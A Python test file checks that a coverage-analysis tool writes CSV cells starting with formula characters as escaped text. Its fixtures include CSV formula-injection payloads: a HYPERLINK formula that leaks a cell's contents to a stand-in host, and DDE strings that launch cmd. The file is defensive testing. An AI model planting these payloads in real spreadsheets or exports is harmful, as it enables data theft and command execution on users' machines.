"""CSV cells that a spreadsheet would run as formulas are written as text, in every CSV.

The oracle is written here: the characters a spreadsheet reads as the start of a formula
(OWASP's list), and the rule that such text is read back with one apostrophe before it while
every other value is read back as written.
"""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from umbrella.coverage.analysis import analyze
from umbrella.coverage.csv_cells import write_csv
from umbrella.coverage.scenario import parse_scenario
from umbrella.coverage.writers import write_result

STARTS = "=+-@\t\r"
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def _expected(text: str) -> str:
    return "'" + text if text[:1] in set(STARTS) else text


@given(st.lists(st.text(), max_size=5))
def test_text_cells_read_back_neutralised_or_as_written(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_csv(path, ["text"], [{"text": text} for text in texts])
    assert [row["text"] for row in _read(path)] == [_expected(text) for text in texts]


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "n.csv", ["a", "b"], [{"a": -3.5, "b": -12}])
    assert _read(path) == [{"a": "-3.5", "b": "-12"}]


def test_every_csv_of_an_analysis_is_safe(tmp_path: Path) -> None:
    """Targets named as formulas reach targets.csv as text, and so do region names."""
    features = [
        {
            "type": "Feature",
            "properties": {"name": name},
            "geometry": {"type": "Point", "coordinates": [34.0 + i * 0.05, 45.0]},
        }
        for i, name in enumerate(HOSTILE)
    ]
    scenario = parse_scenario(
        {
            "name": "=cmd|' /C calc'!A0",
            "regions": ["UA-43"],
            "tiers": {"short": {"range_km": 40}},
            "phases": [{"day": 0}],
            "assets": [{"id": "a1", "tier": "short", "location": [34.1, 45.0]}],
            "targets": [
                {"id": "mine", "geojson": {"type": "FeatureCollection", "features": features}}
            ],
            "grid_cell_km": 20,
        }
    )
    result = analyze(scenario, with_grid=False)
    (phase,) = result.phases
    regions = tuple(
        dataclasses.replace(row, name=HOSTILE[i % len(HOSTILE)])
        for i, row in enumerate(phase.summary.regions)
    )
    summary = dataclasses.replace(phase.summary, regions=regions)
    result = dataclasses.replace(result, phases=(dataclasses.replace(phase, summary=summary),))
    out = tmp_path / "run"
    write_result(result, out)
    targets = _read(out / "targets.csv")
    assert sorted(row["name"] for row in targets) == sorted(_expected(name) for name in HOSTILE)
    written = _read(out / "regions.csv")
    assert [row["name"] for row in written] == [_expected(row.name) for row in regions]
    for path in sorted(out.rglob("*.csv")):
        for row in _read(path):
            for cell in row.values():
                assert cell[:1] not in set(STARTS) or _is_number(cell), (path.name, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
